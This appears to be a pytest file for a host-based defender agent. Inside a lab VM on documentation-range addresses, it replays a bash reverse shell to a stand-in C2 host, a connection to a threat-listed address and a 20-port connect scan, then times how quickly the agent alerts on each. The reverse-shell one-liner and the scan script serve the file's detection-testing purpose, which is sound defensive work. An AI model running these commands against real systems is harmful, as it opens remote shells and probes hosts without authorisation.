"""Threats replayed inside the guest; each alert and how long after its cause it came.

Everything stays inside the guest, on documentation-range addresses of the lab's dummy
interface (scenarios/lab.py): a "C2" listener on 203.0.113.50, an address on the threat
list (198.51.100.66, appended to the shipped, empty list as a test entry), a scanner on
192.0.2.99 and the guest's own servers on 198.51.100.1. Three scenarios:

- a bash reverse shell (`bash -i >& /dev/tcp/203.0.113.50/4444 0>&1`): ReverseShell;
- a connection to the listed address: ThreatIntel, twice: the listed address is the
  guest's own here, so the connect (outbound) and the accept (inbound) are both the
  device's connections with a listed peer, two incidents;
- a connect scan of 20 closed ports of the guest from the scanner: PortScan (inbound).

The latency is the alert's `observed` (the guest's clock when the agent raised it) minus
the guest's clock just before the scenario's command ran; a table is printed. The
issue's goal is 3 s; the assertion allows 10 s, since a busy TCG guest can stall for
seconds, and the table says what was measured.
"""

from __future__ import annotations

import time

import pytest
from defender_tools import guest_agent
from defender_tools.images.debian import Profile
from defender_tools.qemu_runner import Guest
from defender_tools.scenarios import checks, lab

pytestmark = [pytest.mark.qemu, pytest.mark.timeout(900)]

C2, LISTED, SCANNER = "203.0.113.50", "198.51.100.66", "192.0.2.99"
THREAT_LIST = "/etc/defender-agent/threat-intel.txt"
SAVED_LIST = f"{lab.RUN_DIR}/threat-intel.txt.orig"
HOLD = f"{lab.RUN_DIR}/hold.py"
LATENCY_MAX = 10.0

# listeners that accept and keep every connection (a C2 that never answers)
HOLD_PY = """
import socket, sys, time
servers = []
for spec in sys.argv[1:]:
    host, port = spec.rsplit(":", 1)
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((host, int(port)))
    s.listen(16)
    s.setblocking(False)
    servers.append(s)
kept = []
while True:
    for s in servers:
        try:
            kept.append(s.accept()[0])
        except BlockingIOError:
            pass
    time.sleep(0.05)
"""

SCAN_PY = f"""
import socket
for port in range(30000, 30020):
    s = socket.socket()
    s.bind(("{SCANNER}", 0))
    s.settimeout(2)
    s.connect_ex(("{lab.TARGET}", port))
    s.close()
"""

SCENARIOS = (
    (
        "bash reverse shell",
        "ReverseShell",
        1,
        f"setsid bash -c 'exec bash -i >& /dev/tcp/{C2}/4444 0>&1' </dev/null >/dev/null 2>&1 &",
    ),
    (
        "connection to a listed address",
        "ThreatIntel",
        2,
        "setsid python3 -c 'import socket, time; "
        f's = socket.create_connection(("{LISTED}", 8443)); time.sleep(30)\' '
        "</dev/null >/dev/null 2>&1 &",
    ),
    ("inbound scan of 20 closed ports", "PortScan", 1, f"python3 -c '{SCAN_PY}'"),
)


def _restart(guest: Guest) -> None:
    guest_agent.stop_service(guest)
    guest_agent.start_service(guest)
    assert guest_agent.wait_for_service(guest) == "active"


def test_threats_raise_their_alerts_within_seconds(guest: Guest, profile: Profile) -> None:
    lab.prepare(guest, C2, LISTED, SCANNER)
    guest.run(f"cat > {HOLD} <<'EOF'\n{HOLD_PY}\nEOF")
    guest.run(f"cp {THREAT_LIST} {SAVED_LIST} && echo '{LISTED} ; test entry' >> {THREAT_LIST}")
    rows: list[tuple[str, str, int, int, float | None]] = []
    try:
        _restart(guest)  # the list is read at start
        guest.run(f"setsid python3 {HOLD} {C2}:4444 {LISTED}:8443 </dev/null >/dev/null 2>&1 &")
        time.sleep(5)  # the collectors' first look: the listeners are the baseline
        for what, name, incidents, command in SCENARIOS:
            before = len(guest_agent.named(guest_agent.alerts(guest), name))
            started = guest_agent.guest_time(guest)
            guest.run(command, timeout=120)
            alert, _seen = guest_agent.wait_for_alert(guest, name, timeout=60, known=before)
            observed = checks.parse_time(alert.get("observed")) if alert else None
            latency = None if observed is None or started is None else observed - started
            raised = guest_agent.named(guest_agent.alerts(guest), name)[before:]
            for record in raised:
                payload = record.get("payload", {})
                print(
                    f"\n  {name} {payload.get('id')} update={payload.get('update', False)}: "
                    f"{payload.get('description')}"
                )
            count = len({r.get("payload", {}).get("id") for r in raised})  # incidents
            rows.append((what, name, incidents, count, latency))
    finally:
        guest.ssh(
            f"cp {SAVED_LIST} {THREAT_LIST}; pkill -f {HOLD}; pkill -x -f 'bash -i'; "
            "pkill -f 'time.sleep(30)'; true"
        )
        _restart(guest)
    print(f"\n{profile.name}: scenario | expected alert | incidents | latency")
    for what, name, _want, count, latency in rows:
        shown = "not seen" if latency is None else f"{latency:.2f} s"
        print(f"  {what} | {name} | {count} | {shown}")
    for what, name, want, count, latency in rows:
        assert latency is not None, f"{what}: no {name} alert within 60 s"
        assert latency <= LATENCY_MAX, f"{what}: {name} {latency:.1f} s after the command"
        assert count == want, f"{what}: {count} {name} incidents, not {want}"
